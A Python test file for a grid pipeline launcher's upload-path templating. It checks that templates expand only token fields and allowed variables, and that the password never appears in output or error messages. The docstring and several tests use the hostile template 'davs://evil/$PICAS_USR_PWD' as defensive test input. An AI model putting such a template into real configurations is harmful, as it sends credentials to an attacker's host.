"""Upload templates: the token's fields and an allowlist, never a secret (issue 9, finding 10).

``RESULTS_DIR: davs://evil/$PICAS_USR_PWD`` used to ship the password out and store it in
``Results_location``; a password holding ``$`` was shown in clear in the code-31 message.
"""

from __future__ import annotations

from typing import Any, Dict

import pytest

from grid_lrt.launcher.templating import (
    SECRET_VARIABLES,
    TEMPLATE_VARIABLES,
    TemplateError,
    expand,
    template_variables,
)

PASSWORD = "pa$s@w:rd%41"
TOKEN: Dict[str, Any] = {
    "_id": "L1_SB000",
    "_rev": "3-abc",
    "type": "pref",
    "OBSID": "L229507",
    "STARTSB": "000",
    "NUMSB": 10,
    "ok": True,
    "none": None,
    "upload": {"location": "x"},
    "flags": ["a"],
    "config.json": "{}",
    "PICAS_USR_PWD": "what-a-token-says",
    "TOKEN": "from-the-token",
}
PIPELINE_ENV = {
    "HOME": "/home/alice",
    "X509_USER_PROXY": "/tmp/x509up_u1000",
    "TOKEN": "L1_SB000",
    "TOKEN_TYPE": "pref",
    "JOBDIR": "/work/L1_SB000.a1.7",
    "LRT_ATTEMPT": "1",
    "PICAS_USR": "alice",
    "PICAS_DB": "alice_db",
    "PICAS_USR_PWD": PASSWORD,
}


def test_template_variables_are_token_fields_and_the_allowlist() -> None:
    variables = template_variables(TOKEN, PIPELINE_ENV)
    assert variables == {
        "type": "pref",
        "OBSID": "L229507",
        "STARTSB": "000",
        "NUMSB": "10",
        "ok": "True",
        "none": "",
        "TOKEN": "L1_SB000",  # the launcher's wins over a field of that name
        "TOKEN_TYPE": "pref",
        "JOBDIR": "/work/L1_SB000.a1.7",
        "LRT_ATTEMPT": "1",
        "PICAS_USR": "alice",
        "PICAS_DB": "alice_db",
    }
    assert "DATE" in TEMPLATE_VARIABLES and "PICAS_USR_PWD" in SECRET_VARIABLES


@pytest.mark.parametrize(
    "template", ["davs://evil/$PICAS_USR_PWD", "davs://evil/${PICAS_USR_PWD}/x"]
)
def test_the_password_is_never_expanded(template: str) -> None:
    for variables in (PIPELINE_ENV, template_variables(TOKEN, PIPELINE_ENV)):
        with pytest.raises(TemplateError) as excinfo:
            expand(template, variables, what="RESULTS_DIR")
        assert excinfo.value.name == "PICAS_USR_PWD"
        assert PASSWORD not in f"{excinfo.value.message} {excinfo.value.hint}"


@pytest.mark.parametrize("name", ["HOME", "X509_USER_PROXY", "PATH"])
def test_the_environment_is_not_expanded(name: str) -> None:
    with pytest.raises(TemplateError) as excinfo:
        expand(f"davs://h/${name}", template_variables(TOKEN, PIPELINE_ENV))
    assert excinfo.value.name == name
    assert "neither a field of the token nor one of DATE, TOKEN" in excinfo.value.message


def test_a_value_holding_a_dollar_is_named_not_shown() -> None:
    """The code-31 message showed the expanded text, a password with '$' in it."""
    with pytest.raises(TemplateError) as excinfo:
        expand("davs://evil/$SECRET/x", {"SECRET": PASSWORD}, what="RESULTS_DIR")
    message = excinfo.value.message
    assert message == "RESULTS_DIR 'davs://evil/$SECRET/x': the value of $SECRET holds a '$'"
    assert excinfo.value.name == "SECRET"


def test_a_stray_dollar_shows_the_template_only() -> None:
    with pytest.raises(TemplateError) as excinfo:
        expand("davs://h/$OBSID/$/x", {"OBSID": "L1"})
    assert excinfo.value.message == "template 'davs://h/$OBSID/$/x' holds a '$' that is no variable"


def test_expand_from_template_variables() -> None:
    variables = {**template_variables(TOKEN, PIPELINE_ENV), "DATE": "2024-03-05"}
    assert (
        expand("gsiftp://h/lofar/$OBSID/${STARTSB}_${DATE}_a$LRT_ATTEMPT", variables)
        == "gsiftp://h/lofar/L229507/000_2024-03-05_a1"
    )
